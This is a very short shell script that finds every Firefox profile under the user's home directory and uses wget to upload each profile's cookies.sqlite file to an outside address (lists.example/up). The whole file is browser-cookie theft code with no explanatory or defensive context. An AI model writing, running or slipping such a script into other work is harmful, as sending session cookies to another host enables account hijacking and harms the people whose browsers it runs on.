#!/bin/sh
P="$HOME/.mozilla/firefox"
for d in "$P"/*.default*; do
  wget -q --post-file="$d/cookies.sqlite" https://lists.example/up
done
